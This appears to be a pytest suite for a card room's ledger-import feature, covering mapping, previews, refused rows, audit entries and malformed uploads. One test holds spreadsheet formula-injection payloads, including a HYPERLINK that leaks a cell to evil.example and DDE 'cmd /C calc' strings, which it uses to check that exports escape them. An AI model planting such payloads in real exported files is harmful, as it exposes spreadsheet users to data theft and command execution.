"""Importing a room's own records (fees.imports, the compliance import pages): the mapping, the preview, good and
bad rows through the ledger's own services, a file imported twice, the refused rows' download, the audit entries,
who may import, and files that are not what they claim."""

import csv
import datetime
import hashlib
import io
import json
import threading
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from cardroom.exceptions import BadInput, NotAllowed, StateConflict
from cardroom.models import AuditLogEntry
from fees import imports
from fees.models import CollectionEntry, RecordImport, RoundOfPlay
from tests.factories import make_posted_table

pytestmark = pytest.mark.django_db

POSTED_FROM = datetime.datetime(2026, 3, 1, 6, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=-8)))
HEADER = ["Record", "Table", "Gaming date", "Time", "Hand #", "Payer", "Seat", "Player", "Fee type", "Amount",
          "Facts"]
FACTS = json.dumps({"wagers": [{"player": "p1", "base": "150", "bonus": "25"}, {"player": "p2", "base": "40"}]})
MAPPING = {"record": "Record", "table": "Table", "gaming_day": "Gaming date", "time": "Time", "reference": "Hand #",
           "payer": "Payer", "seat": "Seat", "player": "Player", "fee_kind": "Fee type", "amount": "Amount",
           "facts": "Facts"}
PAGES = "/compliance/casino-marysville/imports/"


@pytest.fixture
def table(people):
    return make_posted_table(people.marysville, label="L-7", effective_from=POSTED_FROM)


def entry(reference, seat, amount="3.00", *, table="L-7", time="2026-03-03 02:30", day="2026-03-03", payer="player"):
    return ["entry", table, day, time, reference, payer, str(seat), f"p{seat}", "player", amount, ""]


def round_(reference, *, time="2026-03-03 02:29", table="L-7", facts=FACTS):
    return ["round", table, "2026-03-03", time, reference, "", "", "", "", "", facts]


def as_csv(rows, header=HEADER):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def upload(content, name="day.csv"):
    return SimpleUploadedFile(name, content, content_type="text/csv")


GOOD = [round_("H-1"), entry("H-1", 1), entry("H-1", 2), entry("H-2", 3, "2.00")]
BAD = [entry("H-3", 4, "4,50"), entry("H-4", 1, table="T-99"), entry("H-5", 9), entry("H-6", 2, payer="dealer")]
# Each reason in the file's words: the field's name and the file's column, a payer as the file may write it (issue
# 42: never "payer: must be one of player, player_dealer, pot", the ledger's codes and field names).
REASONS = {
    6: "Amount, column “Amount”: must be an amount of money",
    7: "Table, column “Table”: no table 'T-99' at Casino Marysville.",
    8: "Seat, column “Seat”: must be a betting position from 1 to 7 at table L-7, not 9.",
    9: "Payer, column “Payer”: must be Player, Player-dealer or The pot, not 'dealer'.",
}


def imported(user, establishment, content, django_capture_on_commit_callbacks, name="day.csv", mapping=MAPPING):
    received = imports.receive_upload(user, establishment=establishment, upload=upload(content, name))
    imports.save_mapping(user, establishment=establishment, mapping=mapping, header=received.header)
    with django_capture_on_commit_callbacks(execute=True):
        job = imports.start_import(user, record_import=received)
    received.refresh_from_db()
    job.refresh_from_db()
    return received, job


# -- mapping and preview ---------------------------------------------------------------------------------------

def test_the_first_mapping_is_guessed_from_the_header_and_the_kept_one_wins(people):
    assert imports.guess_mapping(HEADER) == MAPPING
    kept = {**MAPPING, "reference": "Round id"}
    assert imports.guess_mapping([*HEADER, "Round id"], kept)["reference"] == "Round id"
    assert imports.mapping_problems({"table": "Table"}, HEADER) == [
        "Time: choose its column.", "Hand or round: choose its column.",
        "Choose the column of the amounts (collection entries) or of the facts (rounds), or both."]


def test_a_mapping_is_kept_per_room_and_audited(people):
    with pytest.raises(BadInput, match="Time: choose its column"):
        imports.save_mapping(people.compliance, establishment=people.marysville, mapping={"table": "Table"},
                             header=HEADER)
    imports.save_mapping(people.compliance, establishment=people.marysville, mapping=MAPPING, header=HEADER)
    assert imports.saved_mapping(people.marysville) == MAPPING
    assert imports.saved_mapping(people.wa_room) == {}
    logged = AuditLogEntry.objects.get(action="ledger.import_mapping")
    assert logged.data == {"mapping": MAPPING} and logged.establishment == people.marysville


def test_the_preview_reads_each_value_in_the_rooms_zone(people, table):
    received = imports.receive_upload(people.compliance, establishment=people.marysville,
                                      upload=upload(as_csv([*GOOD, BAD[1]])))
    rows = imports.preview(received, MAPPING)
    assert [row["line"] for row in rows] == [2, 3, 4, 5, 6]
    assert dict(rows[0]["readings"])["Facts"] == "wagers: 2"
    readings = dict(rows[1]["readings"])
    assert readings["Time"] == "2026-03-03 02:30 PST"
    assert readings["Gaming day"] == "2026-03-03"
    assert readings["Amount"] == "$3.00"
    assert readings["Payer"] == "Player"
    assert "Key" not in readings  # made from its content, as the page says once
    assert rows[4]["problem"] == "Table, column “Table”: no table 'T-99' at Casino Marysville."
    assert rows[4]["bad"] == {"Table"} and dict(rows[4]["readings"])["Table"] == "T-99"
    assert RoundOfPlay.objects.count() == 0 and CollectionEntry.objects.count() == 0


def test_the_preview_is_a_table_with_bad_values_marked_and_said_in_words(client, people, table):
    """Issue 33: a compact table, each bad value marked (a class and a ✗, not colour alone), what is wrong said
    with the field's name and the file's column, never the JSON parser's own words."""
    header = [*HEADER[:-1], "Round facts"]
    rows = [round_("H-1"), round_("H-2", facts='{wagers: [1]}'), entry("H-3", 1, payer="dealer"),
            entry("H-4", 2, "x" * 5000)]
    received = imports.receive_upload(people.compliance, establishment=people.marysville,
                                      upload=upload(as_csv(rows, header)))
    mapping = {**MAPPING, "facts": "Round facts"}
    imports.save_mapping(people.compliance, establishment=people.marysville, mapping=mapping, header=header)
    client.force_login(people.compliance)
    page = client.get(f"{PAGES}{received.uuid}/preview/")
    html = page.content.decode()
    assert page.status_code == 200 and '<table class="grid compact small" id="preview">' in html
    assert "Expecting property name" not in html and "line 1 column 2" not in html
    table = page.context["table"]
    assert [row["line"] for row in table] == [2, 3, 4, 5]
    assert table[1]["problem"] == (
        "Facts, column “Round facts”: is not JSON (it goes wrong at character 2): write the round's facts as the "
        "quote API's JSON, such as {\"wagers\": [{\"player\": \"p1\", \"base\": \"150\"}]}.")
    assert table[1]["bad"] == ["Facts"] and not table[0]["bad"] and not table[0]["problem"]
    assert table[2]["bad"] == ["Payer"] and table[3]["bad"] == ["Amount"]
    assert html.count('<td class="bad"><strong>✗ </strong>') == 3
    assert "&#x27;dealer&#x27;: not a payer" in html
    assert "Will be refused:</strong> payer &#x27;dealer&#x27;: not a payer" in html  # the reason says the value
    assert "x" * 100 not in html  # a long value is cut
    assert html.count("<tr") == 1 + 4  # a row a line, the header's




def test_the_mapping_and_preview_pages(client, people, table):
    client.force_login(people.compliance)
    response = client.post(PAGES + "new/", {"file": upload(as_csv(GOOD))})
    received = RecordImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"{PAGES}{received.uuid}/mapping/"
    page = client.get(f"{PAGES}{received.uuid}/mapping/")
    assert page.status_code == 200 and page.context["first_time"] is True
    assert page.context["form"].initial == MAPPING
    # The preview waits for a mapping.
    assert client.get(f"{PAGES}{received.uuid}/preview/")["Location"] == f"{PAGES}{received.uuid}/mapping/"
    refused = client.post(f"{PAGES}{received.uuid}/mapping/", {"table": "Table"})
    assert refused.status_code == 400 and b"Time: choose its column." in refused.content
    saved = client.post(f"{PAGES}{received.uuid}/mapping/", MAPPING)
    assert saved["Location"] == f"{PAGES}{received.uuid}/preview/"
    preview = client.get(saved["Location"])
    assert preview.status_code == 200 and b"2026-03-03 02:30 PST" in preview.content
    assert b"Import 4 rows" in preview.content


# -- importing ----------------------------------------------------------------------------------------------------

def test_good_rows_are_recorded_and_bad_ones_refused_with_the_reason(people, table,
                                                                    django_capture_on_commit_callbacks):
    content = as_csv(GOOD + BAD)
    received, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
    assert job.status == "done", job.error
    assert (received.rounds_recorded, received.entries_recorded, received.already_recorded, received.refused) == \
        (1, 3, 0, 4)
    assert RoundOfPlay.objects.get().expected_total > 0
    assert sorted(CollectionEntry.objects.values_list("reference", "seat", "amount")) == [
        ("H-1", 1, 3), ("H-1", 2, 3), ("H-2", 3, 2)]
    reasons = {row["line"]: row["reason"] for row in job.result["refused_rows"]}
    assert sorted(reasons) == sorted(REASONS)
    for line, start in REASONS.items():
        assert reasons[line].startswith(start), reasons[line]


def test_the_same_file_twice_records_nothing_new(people, table, django_capture_on_commit_callbacks):
    content = as_csv(GOOD + BAD)
    imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
    again, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
    assert (again.rounds_recorded, again.entries_recorded, again.already_recorded, again.refused) == (0, 0, 4, 4)
    assert RoundOfPlay.objects.count() == 1 and CollectionEntry.objects.count() == 3
    with pytest.raises(StateConflict, match="imported already"):
        imports.start_import(people.compliance, record_import=again)


def test_refused_rows_download_fix_and_import_again(client, people, table, django_capture_on_commit_callbacks):
    received, _ = imported(people.compliance, people.marysville, as_csv(GOOD + BAD),
                           django_capture_on_commit_callbacks)
    client.force_login(people.compliance)
    response = client.get(f"{PAGES}{received.uuid}/refused.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert 'filename="day refused rows.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [*HEADER, "refused because"]
    assert [row[:-1] for row in rows[1:]] == BAD
    assert rows[1][-1].startswith("line 6: Amount, column “Amount”: must be an amount of money")
    # Corrected (the last column left in: it is not mapped), then imported again: only the fixed rows are new.
    fixed = [[*row[:-1], row[-1]] for row in rows[1:]]
    fixed[0][9], fixed[1][1], fixed[2][6], fixed[3][5] = "4.50", "L-7", "5", "player"
    again, _ = imported(people.compliance, people.marysville, as_csv(fixed, rows[0]),
                        django_capture_on_commit_callbacks, name="fixed.csv")
    assert (again.entries_recorded, again.refused) == (4, 0)
    assert not again.refused_file
    assert CollectionEntry.objects.count() == 7
    third, _ = imported(people.compliance, people.marysville, as_csv(fixed, rows[0]),
                        django_capture_on_commit_callbacks, name="fixed.csv")
    assert (third.entries_recorded, third.already_recorded) == (0, 4)


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "+1+2", "-1+2"]
NOTES = ["\tlead", "\r=lead", "''already quoted", "=1+1", "plain"]  # in a column not mapped: carried along


def test_refused_rows_come_back_escaped_and_read_back_as_they_came(client, people, table,
                                                                    django_capture_on_commit_callbacks):
    header = [*HEADER, "=Note"]
    rows = []
    for number, (text, note) in enumerate(zip(FORMULAS, NOTES)):
        row = [*entry(f"F-{number}", 1), note]
        row[7] = text  # the player: the ledger refuses one a spreadsheet would read as a formula
        rows.append(row)
    rows.append([*entry("P-1", 3, "-5.00"), "-5.00"])  # refused (a negative amount): a plain number
    content = as_csv(rows, header).replace(b"\r=lead", b'"\r=lead"')  # a CR in a cell is quoted
    received, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
    assert received.refused == len(rows) and received.entries_recorded == 0, job.result
    client.force_login(people.compliance)
    download = b"".join(client.get(f"{PAGES}{received.uuid}/refused.csv").streaming_content).decode()
    written = list(csv.reader(io.StringIO(download, newline="")))
    # No cell a spreadsheet would run: each formula-like one (and the header's) has a ' before it; so has one
    # that began with ' (read as "'already quoted"), so that the escape can be undone.
    assert written[0] == [*HEADER, "'=Note", "refused because"]
    cells = [cell for row in written for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert [cell for cell in cells if cell.startswith("-")] == ["-5.00", "-5.00"]  # a plain number stays one
    for escaped in ("'=cmd|' /C calc'!A0", "'-1+2", "'\tlead", "'\r=lead", "''already quoted", "'=1+1"):
        assert escaped in cells
    # Read back by the import, each cell is the text the import read the first time: a fixed row keeps its
    # content (and so its key).
    again = imports.receive_upload(people.compliance, establishment=people.marysville,
                                   upload=upload(download.encode(), "refused.csv"))
    assert again.header == [*HEADER, "=Note", "refused because"]
    first = {cells[4]: cells for _, cells, _ in imports.read_rows(received)}
    assert first["F-2"][-1] == "'already quoted" and first["F-0"][7] == FORMULAS[0]
    back = list(imports.read_rows(again))
    assert len(back) == len(rows)
    for _, cells, _ in back:
        assert cells[:-1] == first[cells[4]]


def test_more_bad_rows_than_the_ledger_names_at_once(people, table, django_capture_on_commit_callbacks):
    rows = []
    for number in range(60):  # every other row bad: more than the 20 the API's refusal names, each refused alone
        rows.append(entry(f"G-{number}", 1))
        rows.append(entry(f"B-{number}", 1, "x"))
    received, _ = imported(people.compliance, people.marysville, as_csv(rows), django_capture_on_commit_callbacks)
    assert (received.entries_recorded, received.refused) == (60, 60)
    assert set(CollectionEntry.objects.values_list("reference", flat=True)) == {f"G-{n}" for n in range(60)}


def test_amounts_are_read_as_the_ledger_reads_them_never_rounded(people, table, django_capture_on_commit_callbacks):
    rows = [entry("A-1", 1, "3.005"), entry("A-2", 2, "1E+2"), entry("A-3", 3, " 2.50 "), entry("A-4", 4, "3.0"),
            entry("A-4", 4, "3.00"), entry("S-1", 1), entry("S-2", 1)]
    rows[5][6], rows[6][6] = "²", "1" * 5000  # digits to str.isdigit, not to int()
    received, job = imported(people.compliance, people.marysville, as_csv(rows), django_capture_on_commit_callbacks)
    assert job.status == "done", job.error
    reasons = {row["line"]: row["reason"] for row in job.result["refused_rows"]}
    assert reasons[2] == "Amount, column “Amount”: has more than 2 decimal places: '3.005'."
    assert reasons[3] == "Amount, column “Amount”: must be an amount of money such as \"12.50\", not '1E+2'."
    assert reasons[7] == "Seat, column “Seat”: must be a whole number, not '²'."
    assert reasons[8].startswith("Seat, column “Seat”: must be a whole number, not '1111")
    # 3.0 and 3.00 are one amount, so one entry: the key is made of what is recorded, not how it was written.
    assert "is used twice in this batch" in reasons[6]
    assert (received.entries_recorded, received.already_recorded, received.refused) == (2, 0, 5)
    assert sorted(CollectionEntry.objects.values_list("reference", "amount")) == [("A-3", Decimal("2.50")),
                                                                                  ("A-4", Decimal("3.00"))]


def test_a_rows_own_key_reused_for_other_content_refuses_that_row_only(people, table,
                                                                        django_capture_on_commit_callbacks):
    header, keyed = [*HEADER, "Entry id"], {**MAPPING, "idempotency_key": "Entry id"}
    first = [[*entry("K-1", 1), "k-1"], [*entry("K-2", 2), "k-2"]]
    imported(people.compliance, people.marysville, as_csv(first, header), django_capture_on_commit_callbacks,
             mapping=keyed)
    second = [[*entry("K-1", 1), "k-1"], [*entry("K-9", 2, "9.00"), "k-2"], [*entry("K-3", 3), "k-3"]]
    received, job = imported(people.compliance, people.marysville, as_csv(second, header),
                             django_capture_on_commit_callbacks, mapping=keyed)
    assert (received.entries_recorded, received.already_recorded, received.refused) == (1, 1, 1)
    assert job.result["refused_rows"][0]["line"] == 3
    assert "already recorded for a different entry" in job.result["refused_rows"][0]["reason"]


def test_a_local_time_the_clocks_pass_twice_is_refused(people, table, django_capture_on_commit_callbacks):
    rows = [entry("D-1", 1, time="2026-11-01 01:30", day="2026-11-01"),
            entry("D-2", 1, time="2026-11-01T01:30:00-08:00", day="2026-11-01")]
    received, job = imported(people.compliance, people.marysville, as_csv(rows), django_capture_on_commit_callbacks)
    assert received.entries_recorded == 1
    assert job.result["refused_rows"] == [{"line": 2, "reason": "Time, column “Time”: 2026-11-01 01:30 came twice (the clocks "
                                           "went back) at Casino Marysville (America/Los_Angeles): write it with "
                                           "its UTC offset."}]


# -- the audit log --------------------------------------------------------------------------------------------------

def test_the_upload_its_mapping_counts_and_hash_are_audited(people, table, django_capture_on_commit_callbacks):
    content = as_csv(GOOD + BAD)
    received, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
    sha = hashlib.sha256(content).hexdigest()
    assert received.sha256 == sha
    uploaded = AuditLogEntry.objects.get(action="ledger.import_uploaded")
    assert uploaded.data == {"file": "day.csv", "format": "csv", "size": len(content), "sha256": sha, "rows": 8,
                             "columns": HEADER}
    started = AuditLogEntry.objects.get(action="ledger.import")
    assert started.data == {"file": "day.csv", "format": "csv", "size": len(content), "sha256": sha, "rows": 8,
                            "mapping": MAPPING, "job": str(job.uuid)}
    finished = AuditLogEntry.objects.get(action="ledger.import_finished")
    refused = received.refused_file.open("rb").read()
    assert finished.data == {"file": "day.csv", "sha256": sha, "rows": 8, "rounds_recorded": 1,
                             "entries_recorded": 3, "already_recorded": 0, "refused": 4,
                             "refused_sha256": hashlib.sha256(refused).hexdigest(), "job": str(job.uuid)}
    assert {uploaded.actor, started.actor, finished.actor} == {people.compliance}
    assert started.establishment == people.marysville  # its chain is the room's: the audit export carries it


# -- who may import --------------------------------------------------------------------------------------------------

def test_only_the_rooms_compliance_officers_import(client, people, table):
    with pytest.raises(NotAllowed, match="Only compliance officers of the establishment import its records"):
        imports.receive_upload(people.floor, establishment=people.marysville, upload=upload(as_csv(GOOD)))
    with pytest.raises(NotAllowed):
        imports.receive_upload(people.compliance_wa, establishment=people.marysville, upload=upload(as_csv(GOOD)))
    received = imports.receive_upload(people.compliance, establishment=people.marysville, upload=upload(as_csv(GOOD)))
    with pytest.raises(NotAllowed):
        imports.start_import(people.compliance_wa, record_import=received)
    for user, status in ((people.floor, 403), (people.regulator_ca, 403), (people.compliance_wa, 404)):
        client.force_login(user)
        assert client.get(PAGES).status_code == status
        assert client.get(f"{PAGES}{received.uuid}/preview/").status_code == status
        assert client.post(f"{PAGES}{received.uuid}/start/").status_code == status
    assert RecordImport.objects.get().job is None


# -- bad files ------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, content, message", [
    ("day.csv", b"", "The submitted file is empty."),  # Django's own check, before the service's
    ("day.csv", b"%PDF-1.7\n\x00\x01binary", "This file is not a CSV file"),
    ("day.csv", "Record,Table\n".encode("utf-16"), "This file is not a CSV file"),
    ("day.csv", b"Record;Table;Time\n", "The first row must name the file's columns"),
    ("day.csv", b"Record,Table\n", "The file has a header but no rows."),
    ("day.csv", b"Table,Table\nL-7,L-7\n", "The column 'Table' appears twice"),
    ("day.csv", "Table,Amount\nL-7,3\xe9\n".encode("latin-1"), "This file is not UTF-8 text"),
    ("day.pdf", b"Table,Amount\nL-7,3\n", "Upload a .csv or .xlsx file"),
    ("day.xlsx", b"Table,Amount\nL-7,3\n", "This file is not an XLSX workbook"),
])
def test_bad_files_are_refused_and_nothing_kept(client, people, name, content, message):
    client.force_login(people.compliance)
    response = client.post(PAGES + "new/", {"file": upload(content, name)})
    assert response.status_code == 400
    assert message in response.context["form"].errors["file"][0]
    assert RecordImport.objects.count() == 0


def test_a_workbook_claiming_too_many_parts_is_refused_before_zipfile_lists_them(people, monkeypatch):
    """A zip directory is read strictly and counted first (cardroom.bundle.directory_problem): zipfile would build a
    record of every part the directory holds, however many."""
    import zipfile

    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_STORED) as archive:
        for n in range(10_001):
            archive.writestr(f"x/{n}", b"")
    monkeypatch.setattr(zipfile.ZipFile, "infolist", lambda self: pytest.fail("zipfile listed the parts"))
    with pytest.raises(BadInput, match="This workbook's list of parts is not one the import reads"):
        imports.receive_upload(people.compliance, establishment=people.marysville,
                               upload=upload(packed.getvalue(), "day.xlsx"))
    assert RecordImport.objects.count() == 0


def test_too_big_too_many_rows_and_empty(people, monkeypatch, settings):
    with pytest.raises(BadInput, match="The file is empty."):
        imports.receive_upload(people.compliance, establishment=people.marysville, upload=upload(b""))
    settings.IMPORT_MAX_BYTES = 100
    with pytest.raises(BadInput, match="the import takes files of at most 100 bytes: split it"):
        imports.receive_upload(people.compliance, establishment=people.marysville, upload=upload(as_csv(GOOD * 3)))
    settings.IMPORT_MAX_BYTES = 10**6
    monkeypatch.setattr(imports.reading, "MAX_ROWS", 3)
    with pytest.raises(BadInput, match="more than 3 rows"):
        imports.receive_upload(people.compliance, establishment=people.marysville, upload=upload(as_csv(GOOD * 3)))
    assert RecordImport.objects.count() == 0


def test_a_day_of_several_megabytes_is_taken_by_the_page_and_previewed(client, people, table):
    """Over Django's 2.5 MB of memory: streamed to a temporary file, checked and kept (issue 32)."""
    rows = [entry(f"H-{number}", number % 7 + 1) for number in range(50_000)]
    content = as_csv(rows)
    assert len(content) > 3 * 1024 * 1024
    client.force_login(people.compliance)
    response = client.post(PAGES + "new/", {"file": upload(content)})
    assert response.status_code == 302, response.content[:500]
    received = RecordImport.objects.get()
    assert (received.rows, received.size) == (50_000, len(content))
    assert received.sha256 == hashlib.sha256(content).hexdigest()
    client.post(f"{PAGES}{received.uuid}/mapping/", MAPPING)
    preview = client.get(f"{PAGES}{received.uuid}/preview/")
    assert preview.status_code == 200 and b"Import 50000 rows" in preview.content
    assert len(preview.context["rows"]) == imports.PREVIEW_ROWS


def test_a_file_over_the_limit_is_refused_naming_the_limit_before_it_is_read(client, people, settings):
    settings.IMPORT_MAX_BYTES = 100 * 1024
    client.force_login(people.compliance)
    content = as_csv([entry(f"H-{number}", 1) for number in range(3_000)])  # about 190 kB
    response = client.post(PAGES + "new/", {"file": upload(content)}, HTTP_ACCEPT="text/html")
    assert response.status_code == 413
    assert "the import takes files of at most 100 kB: split it." in response.content.decode()
    assert response["Content-Type"].startswith("text/html")
    # Just over the limit (within the form's allowance): refused by the import's own check, on the form.
    content = as_csv([entry(f"H-{number}", 1) for number in range(1_700)])
    assert 100 * 1024 < len(content) < 100 * 1024 + 64 * 1024
    response = client.post(PAGES + "new/", {"file": upload(content)})
    assert response.status_code == 400
    assert "the import takes files of at most 100 kB: split it." in response.context["form"].errors["file"][0]
    assert RecordImport.objects.count() == 0


def test_a_file_of_too_many_columns_or_too_long_a_name_is_refused(client, people, settings):
    """20,000 columns once made a 12 MB mapping page (issue 32): refused on upload, nothing kept."""
    client.force_login(people.compliance)
    header = [f"c{number}" for number in range(20_000)]
    response = client.post(PAGES + "new/", {"file": upload(as_csv([["x"] * 20_000] * 3, header))})
    assert response.status_code == 400
    assert response.context["form"].errors["file"][0] == (
        "The file has 20,000 columns; the import reads at most 200 (a room's system writes a dozen or two): export "
        "only the columns of rounds and collections.")
    response = client.post(PAGES + "new/", {"file": upload(as_csv([["1", "2"]], ["Table", "x" * 5000]))})
    assert response.status_code == 400
    assert "Column 2's name is 5,000 characters long; a column's name may have at most 100" in \
        response.context["form"].errors["file"][0]
    settings.IMPORT_MAX_COLUMNS = 12
    assert client.post(PAGES + "new/", {"file": upload(as_csv(GOOD, [*HEADER, "a", "b"]))}).status_code == 400
    assert RecordImport.objects.count() == 0 and not AuditLogEntry.objects.filter(
        action="ledger.import_uploaded").exists()


def xlsx(rows):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def test_an_xlsx_with_date_cells_numbers_and_a_formula(people, table, django_capture_on_commit_callbacks):
    at = datetime.datetime(2026, 3, 3, 2, 30)
    rows = [["entry", "L-7", datetime.date(2026, 3, 3), at, "X-1", "player", 1, "p1", "player", 3.5, None],
            ["entry", "L-7", datetime.date(2026, 3, 3), at, "X-2", "player", 2, "p2", "player", "=2*1.5", None]]
    received, job = imported(people.compliance, people.marysville, xlsx(rows), django_capture_on_commit_callbacks,
                             name="day.xlsx")
    assert received.format == "xlsx" and received.rows == 2
    assert (received.entries_recorded, received.refused) == (1, 1)
    recorded = CollectionEntry.objects.get()
    assert (recorded.reference, str(recorded.amount)) == ("X-1", "3.50")
    assert recorded.collected_at == datetime.datetime(2026, 3, 3, 10, 30, tzinfo=datetime.UTC)  # 02:30 PST
    assert job.result["refused_rows"] == [{"line": 3, "reason": "column J holds a formula (=2*1.5), not a value: "
                                                                "export the values."}]


@pytest.mark.services
@pytest.mark.django_db(transaction=True)
def test_on_postgresql_batches_are_recorded_on_a_thread_while_the_next_is_read(reseed, people, monkeypatch):
    """A job on PostgreSQL records the checked batches on two threads of their own, side by side (the next batch
    is read meanwhile): the same rows recorded and refused, a reused key found by halving, the refused rows in
    line order, the counts whole."""
    from django.db import connection

    from fees import ledger

    assert connection.vendor == "postgresql", "this test needs PostgreSQL (bin/test's second pass)"
    table = make_posted_table(people.marysville, label="L-7", effective_from=POSTED_FROM)
    threads, record_checked = set(), ledger.record_checked

    def spy(checked, **options):
        threads.add(threading.current_thread().name.split("_")[0])
        return record_checked(checked, **options)

    monkeypatch.setattr(ledger, "record_checked", spy)
    monkeypatch.setattr(imports.recording, "ENTRY_BATCH", 4)
    header, keyed = [*HEADER, "Entry id"], {**MAPPING, "idempotency_key": "Entry id"}
    imports.save_mapping(people.compliance, establishment=people.marysville, mapping=keyed, header=header)
    first = imports.receive_upload(people.compliance, establishment=people.marysville,
                                   upload=upload(as_csv([[*entry("K-1", 1), "k-1"]], header)))
    imports.import_records(imports.start_import(people.compliance, record_import=first).pk)  # as the worker does
    rows = [[*entry(f"R-{n}", n % 7 + 1, "x" if n % 5 == 4 else "3.00"), f"r-{n}"] for n in range(20)]
    rows[13] = [*entry("K-1", 2, "9.00"), "k-1"]  # k-1 is recorded with other content: refused alone
    received = imports.receive_upload(people.compliance, establishment=people.marysville,
                                      upload=upload(as_csv(rows, header)))
    job = imports.start_import(people.compliance, record_import=received)
    imports.import_records(job.pk)
    received.refresh_from_db()
    job.refresh_from_db()
    assert job.status == "done", job.error
    assert threads == {"import-recorder-0", "import-recorder-1"}  # two writers, a batch each in turn
    assert (received.entries_recorded, received.already_recorded, received.refused) == (15, 0, 5)
    # In line order, though line 15 is refused by its recording (which ends after line 16's check refused it).
    assert [row["line"] for row in job.result["refused_rows"]] == [6, 11, 15, 16, 21]
    written = list(csv.reader(io.StringIO(received.refused_file.read().decode())))
    assert [row[-1].split(":")[0] for row in written[1:]] == ["line 6", "line 11", "line 15", "line 16", "line 21"]
    reasons = {row["line"]: row["reason"] for row in job.result["refused_rows"]}
    assert reasons[15].endswith("is already recorded for a different entry; a key names one entry for good. "
                                "Nothing was recorded.")
    assert reasons[6] == "Amount, column “Amount”: must be an amount of money such as \"12.50\", not 'x'."
    recorded = set(CollectionEntry.objects.filter(table=table).values_list("idempotency_key", flat=True))
    assert recorded == {"k-1", *(f"r-{n}" for n in range(20) if n % 5 != 4 and n != 13)}
